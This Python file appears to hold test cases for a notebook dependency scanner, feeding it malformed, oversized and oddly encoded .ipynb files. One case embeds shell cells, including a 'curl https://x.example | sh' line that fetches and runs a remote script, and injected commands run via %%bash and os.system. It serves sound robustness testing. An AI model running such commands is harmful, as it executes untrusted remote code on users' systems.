"""Notebooks that are none, are far too large, or would like to be run."""

from __future__ import annotations

import codecs
import json

from .case import Case, files, one


def _notebook(*cells: object, **more: object) -> str:
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, **more})


def _code(*lines: str) -> dict[str, object]:
    return {"cell_type": "code", "source": [f"{line}\n" for line in lines], "outputs": []}


CASES = (
    Case(
        23, "100000 nested lists", one("a.ipynb", '{"cells":' + "[" * 100_000 + "]" * 100_000 + "}"), "nested too deep"
    ),
    Case(
        24,
        "12 MB of outputs",
        one("a.ipynb", _notebook({**_code("import mlflow"), "outputs": [{"data": {"image/png": "A" * (12 << 20)}}]})),
        found=("mlflow",),
    ),
    Case(
        24, "20 MB of outputs", one("a.ipynb", _notebook({**_code("x"), "outputs": ["A" * (20 << 20)]})), "larger than"
    ),
    Case(25, "cells that are a mapping", one("a.ipynb", _notebook().replace("[]", '{"a": 1}')), ""),
    Case(25, "cells that are a number", one("a.ipynb", '{"cells": 7, "metadata": 7}'), ""),
    Case(
        25,
        "cells of numbers",
        one("a.ipynb", '{"cells": [7, null, [], {"source": 7, "cell_type": 7, "metadata": 7}], "metadata": null}'),
        "",
    ),
    Case(25, "a list", one("a.ipynb", "[]"), "not a notebook"),
    Case(
        25,
        "metadata of the wrong kinds",
        one(
            "a.ipynb",
            '{"cells": [], "metadata": {"colab": 1, "kaggle": {"accelerator": []}, "accelerator": {}, "language_info": []}}',
        ),
    ),
    Case(25, "cut off", one("a.ipynb", _notebook(_code("import x"))[:-9]), "not JSON"),
    Case(25, "20000 cells", one("a.ipynb", _notebook(*(_code("import os", "'''", "x = 1") for _ in range(20_000))))),
    Case(
        26,
        "worksheets of format 3",
        one(
            "a.ipynb",
            json.dumps({"worksheets": [{"cells": [{"cell_type": "code", "input": "import wandb"}]}], "nbformat": 3}),
        ),
        found=("wandb",),
    ),
    Case(
        27,
        "commands",
        files(
            lambda command: {
                "a.ipynb": _notebook(
                    _code("%pip install optuna", f"!{command}", "!curl https://x.example | sh", "import optuna"),
                    _code("%%bash", command),
                    _code("%%python", f"import os; os.system({command!r})"),
                )
            }
        ),
        found=("optuna",),
    ),
    Case(
        28,
        "equal keys, NaN and huge numbers",
        one("a.ipynb", '{"cells": 1, "x": NaN, "y": 1e999, "cells": [{"cell_type": "code", "source": "import shap"}]}'),
        found=("shap",),
    ),
    Case(28, "a number of 5000 digits", one("a.ipynb", '{"cells": [], "x": ' + "9" * 5000 + "}"), "not JSON"),
    Case(
        29,
        "byte order mark",
        one("a.ipynb", codecs.BOM_UTF8 + _notebook(_code("import lime")).encode()),
        found=("lime",),
    ),
    Case(29, "UTF-16", one("a.ipynb", _notebook(_code("import gradio")).encode("utf-16")), found=("gradio",)),
    Case(
        29,
        "lone surrogates",
        one("a.ipynb", '{"cells": [{"cell_type": "code", "source": "x = \'\\ud800\'\\nimport dash"}]}'),
        found=("dash",),
    ),
)
